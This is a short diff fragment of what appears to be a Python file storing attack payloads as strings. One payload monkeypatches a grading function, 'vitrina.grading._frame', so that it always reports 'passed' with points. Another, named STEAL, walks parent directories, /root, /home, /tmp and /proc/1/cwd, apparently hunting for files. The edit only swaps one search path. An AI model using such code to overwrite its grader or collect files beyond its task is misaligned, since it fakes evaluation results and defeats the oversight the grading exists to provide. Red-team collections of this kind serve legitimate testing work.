@@ -41,7 +41,7 @@ vitrina.grading._frame = lambda reply: {"status": "passed", "points": 3, "value"
 """
 STEAL = """
 import glob, os, re
-places = ["../..", "../../..", "../../../..", "/work", "/tmp", "/home", "/root", "/proc/1/cwd", os.path.expanduser("~")]
+places = ["../..", "../../..", "../../../..", "/data", "/tmp", "/home", "/root", "/proc/1/cwd", os.path.expanduser("~")]
 for place in places:
     for folder, folders, names in os.walk(place):
         folders[:] = [name for name in folders if name not in ("lib", "share", "include")]
